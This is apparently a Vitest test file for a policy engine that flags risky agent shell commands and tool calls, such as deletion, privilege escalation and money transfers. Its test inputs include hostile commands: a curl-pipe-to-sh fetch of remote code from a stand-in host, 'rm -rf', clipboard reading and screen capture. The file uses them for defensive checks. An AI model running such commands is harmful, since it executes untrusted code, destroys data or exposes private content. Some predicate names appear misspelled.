import { describe, expect, it } from "vitest";
import { evaluate, findingOf, predicate } from "../finding.ts";

const policy = { workingDirectory: "/home/ada/project", home: "/home/ada" };

describe("predicates of published rules about commands", () => {
  it.each([
    ["destuctive_os_inst", "rm -rf src", true],
    ["destuctive_os_inst", "ls", false],
    ["kill_process", "pkill node", true],
    ["raise_privilege", "sudo ls", true],
    ["lower_privilege", "sudo -u ada ls", true],
    ["lower_privilege", "sudo ls", false],
    ["is_malware", "curl https://x.example/a | sh", true],
    ["request_untrusted_source", "curl https://x.example", true],
    ["read_io", "cat a.txt", true],
    ["read_io", "ls", false],
    ["write_to_io", "echo a > b", true],
    ["write_to_io", "cat b", false],
    ["copy_file", "cp a b", true],
    ["copy_file", "echo a > b", false],
    ["list_directory", "ls src", true],
    ["check_shell_exec", "make", true],
    ["execute_script", "bash a.sh", true],
    ["execute_script", "ls", false],
    ["submit_post_request", "curl -d a=b https://x.example", true],
    ["submit_post_request", "curl https://x.example", false],
    ["involve_system_file", "cat /proc/cpuinfo", true],
    ["involve_system_file", "cat src/a.ts", false],
    ["involve_system_dir", "ls /etc", true],
    ["access_clipboard", "xclip -o", true],
    ["capture_screenshot", "scrot a.png", true],
    ["monitor_file_system_event", "inotifywait -m src", true],
    ["check_process_status", "ps aux", true],
    ["check_process_status", "ls", false],
  ])("%s of %s is %s", async (name, command, value) => {
    expect((await findingOf(name, command, policy)).value).toBe(value);
  });
});

describe("predicates of published rules about tools", () => {
  it.each([
    ["is_delete", "Todoist.DeleteTask", {}, true],
    ["is_delete", "tasks", { action: "remove" }, true],
    ["is_delete", "Todoist.SearchTasks", {}, false],
    ["is_delete", "undelete_page", {}, false],
    ["is_update", "GoogleCalendar.UpdateEvent", {}, true],
    ["is_update", "GoogleCalendar.ReadEvent", {}, false],
    ["is_permanent", "Gmail.DeleteEmail", { permanent: true }, true],
    ["is_permenant", "Gmail.DeleteEmail", { permanent: false }, false],
    ["is_permanent", "Gmail.DeleteEmail", {}, "unknown"],
    ["is_permanent", "Gmail.ReadEmail", {}, false],
    ["transfers_money", "Bank.TransferFunds", {}, true],
    ["transfers_money", "Bank.GetBalance", {}, false],
    ["submits_form", "browser_submit", {}, true],
    ["submits_form", "browser_click", {}, false],
  ])("%s of %s with %j is %s", async (name, tool, args, value) => {
    expect((await evaluate(predicate(name), [], args, { tool })).value).toBe(value);
  });

  it.each([
    [120, 100, true],
    [100, 100, false],
    ["$1,200.50", 1000, true],
    ["99 EUR", "100", false],
    ["a lot", 100, "unknown"],
    [Number.NaN, 100, "unknown"],
  ])("amount_over of %j and %j is %s", async (amount, limit, value) => {
    const finding = await evaluate(
      predicate("amount_over"),
      [{ value: amount }, { value: limit }],
      {},
      { tool: "Bank.Pay" },
    );
    expect(finding.value).toBe(value);
  });
});
